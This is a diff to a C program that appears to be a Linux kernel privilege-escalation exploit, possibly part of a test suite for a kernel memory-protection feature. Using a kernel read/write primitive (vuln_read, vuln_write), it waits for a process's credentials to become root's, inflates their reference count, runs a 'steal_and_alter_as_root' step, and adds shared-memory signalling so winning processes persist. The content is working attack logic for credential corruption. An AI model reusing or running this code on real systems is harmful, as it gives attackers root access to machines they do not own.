@@ -9,6 +9,7 @@
 #include <signal.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/mman.h>
 #include <sys/wait.h>
 #include <time.h>
 #include <unistd.h>
@@ -77,7 +78,15 @@ static bool is_root(u64 uid)
 	       vuln_read(uid + 2 * sizeof(u64)) == root;
 }
 
-static noreturn void be_a_candidate(const char *prize)
+/* Whose credentials are free memory, or another's, must not end. */
+static noreturn void stay_for_ever(void)
+{
+	close(FD_LOOT);
+	for (;;)
+		pause();
+}
+
+static noreturn void be_a_candidate(const char *prize, volatile bool *won)
 {
 	struct kpkeys_vuln_creds creds = vuln_creds();
 	u64 uid = vuln_cred();
@@ -88,16 +97,16 @@ static noreturn void be_a_candidate(const char *prize)
 	for (i = 0; i < ROUNDS * 10; i++, nap(20)) {
 		if (!is_root(uid))
 			continue;
-		/* The count may be elsewhere. Let it never become zero. */
+		/* The count may be elsewhere, and that program have ended. */
 		creds = vuln_creds();
+		if ((int64_t)vuln_read(creds.usage) <= 0)
+			continue;
 		vuln_write(creds.usage, vuln_read(creds.usage) + 1000);
 		steal_and_alter_as_root(prize);
-		_exit(0);
+		*won = true;
+		break;
 	}
-	/* Whose credentials are free memory must not end. */
-	close(FD_LOOT);
-	for (;;)
-		pause();
+	stay_for_ever();
 }
 
 /* It needs to do nothing but to have credentials. */
@@ -113,7 +122,7 @@ static void run_programs_of_root(void)
 	}
 }
 
-/* How the first candidate ended, or -1. */
+/* How the first candidate ended that did, or 0. Winners do not. */
 static int candidate_ended(const pid_t candidates[CANDIDATES])
 {
 	int status, i;
@@ -123,25 +132,30 @@ static int candidate_ended(const pid_t candidates[CANDIDATES])
 		for (i = 0; i < CANDIDATES; i++)
 			if (candidates[i] == pid)
 				return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
-	return -1;
+	return 0;
 }
 
 int main(int argc, char **argv)
 {
 	pid_t candidates[CANDIDATES];
-	int i, how = -1;
+	volatile bool *won;
+	int i, how = 0;
 
 	if (!geteuid()) {
 		nap(150);
 		return 0;
 	}
 
+	won = mmap(NULL, page_size(), PROT_READ | PROT_WRITE,
+		   MAP_SHARED | MAP_ANONYMOUS, -1, 0);
+	if (won == MAP_FAILED)
+		die_errno("mapping a page");
 	for (i = 0; i < CANDIDATES; i++) {
 		candidates[i] = fork_or_die();
 		if (!candidates[i])
-			be_a_candidate(argc > 1 ? argv[1] : "");
+			be_a_candidate(argc > 1 ? argv[1] : "", won);
 	}
-	for (i = 0; i < ROUNDS && how < 0; i++) {
+	for (i = 0; i < ROUNDS && !how && !*won; i++) {
 		nap(100);
 		run_programs_of_root();
 		nap(200);
@@ -149,7 +163,7 @@ int main(int argc, char **argv)
 	}
 	if (how == EXIT_OUT_OF_REACH)
 		out_of_reach("the credentials are in use, whatever their count says");
-	if (how)
+	if (!*won)
 		die("the memory did not become credentials of root");
 	return 0;
 }
